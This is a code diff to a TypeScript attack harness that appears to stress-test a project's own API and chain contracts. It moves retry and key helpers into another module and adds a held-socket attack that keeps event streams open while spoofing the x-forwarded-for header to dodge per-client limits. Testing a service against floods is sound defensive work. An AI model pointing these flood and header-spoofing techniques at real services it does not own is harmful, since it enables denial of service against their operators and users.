@@ -1,24 +1,12 @@
 /** The attacks over HTTP and on the chain. Each runs until the process ends. */
 import type { Transaction } from '@mandate/contracts';
 import { toHex } from 'viem';
-import type { Ask } from './ask.ts';
 import { holdSockets, writeHead } from './held-sockets.ts';
-import type { AttackOrders } from './messages.ts';
+import { getKey, getKeyOnce, type Means, tryOften } from './means.ts';
+import { startNetworkAttacks } from './network-attacks.ts';
 import { repeatPerSecond } from './pace.ts';
 import { type Attack, RATES } from './rates.ts';
 import { pageHeaders, signInThrowaway } from './throwaway-wallet.ts';
-
-/** Records the requests and answers of an attack. */
-interface Notes {
-  sent(attack: Attack): void;
-  status(attack: Attack, status: number): void;
-}
-
-interface Means {
-  readonly orders: AttackOrders;
-  readonly ask: Ask;
-  readonly notes: Notes;
-}
 
 /** Each attacker has its own address. A flood comes from many. */
 const CLIENTS = {
@@ -30,10 +18,6 @@ const CLIENTS = {
 } as const;
 const GAS = toHex(2 ** 24);
 const JSON_TYPE = { 'content-type': 'application/json' } as const;
-const MAX_RETRIES = 1_000;
-const RETRY_MS = 1_000;
-
-const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 
 export function startAttacks(means: Means): void {
   revokeOnChain(means);
@@ -43,6 +27,7 @@ export function startAttacks(means: Means): void {
   floodNonces(means);
   askForSpammedLists(means);
   callTools(means);
+  startNetworkAttacks(means);
   // Attacks that need a key keep trying while they are rejected without one.
   void weighDown(means);
   void raceForKeys(means);
@@ -128,6 +113,20 @@ function openStreams({ orders: { apiUrl }, notes }: Means): void {
     ],
     onSent: () => notes.sent('streams'),
     onStatus: (status) => notes.status('streams', status),
+  });
+  const held = RATES.heldStreams;
+  holdSockets({
+    url: apiUrl,
+    open: held.clients * held.perClient,
+    openedPerS: held.openedPerS,
+    write: (number) => [
+      writeHead('GET', '/changes', {
+        accept: 'text/event-stream',
+        'x-forwarded-for': `198.51.101.${number % held.clients}`,
+      }),
+    ],
+    onSent: () => notes.sent('heldStreams'),
+    onStatus: (status) => notes.status('heldStreams', status),
   });
 }
 
@@ -240,22 +239,4 @@ async function throwAway({ orders, ask, notes }: Means): Promise<void> {
     const headers = { 'x-forwarded-for': `203.0.113.${which}`, 'x-api-key': key };
     notes.status('throwawayKeys', (await ask({ path: orders.check, headers })).status);
   });
-}
-
-async function getKeyOnce({ orders, ask }: Omit<Means, 'notes'>, client: string): Promise<string | null> {
-  const wallet = await signInThrowaway(ask, { ...orders, client });
-  return (await wallet?.createKey())?.key ?? null;
-}
-
-function getKey(means: Omit<Means, 'notes'>, client: string): Promise<string | null> {
-  return tryOften(() => getKeyOnce(means, client));
-}
-
-async function tryOften<T>(attempt: () => Promise<T | null>): Promise<T | null> {
-  for (let tries = 0; tries < MAX_RETRIES; tries++) {
-    const got = await attempt();
-    if (got !== null) return got;
-    await wait(RETRY_MS);
-  }
-  return null;
 }
